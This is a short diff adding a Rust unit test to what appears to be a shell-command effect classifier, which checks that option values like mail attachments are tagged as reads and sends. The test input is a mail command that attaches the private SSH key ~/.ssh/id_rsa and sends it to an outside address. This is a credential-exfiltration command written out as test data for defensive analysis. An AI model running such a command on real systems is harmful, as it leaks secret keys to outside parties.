@@ -366,3 +366,12 @@ fn a_partial_program_leaves_the_rest_to_the_generic_reading() {
     );
     assert!(e.contains("`partial`"), "{e}");
 }
+
+/// `act@$name` is each value the option is given.
+#[test]
+fn an_option_value_target_is_each_value() {
+    assert_eq!(
+        effects("mail -s x -a a.csv -a ~/.ssh/id_rsa ops@example.com"),
+        vec!["read@secrets", "read@source", "send@remote", "send@secrets"]
+    );
+}
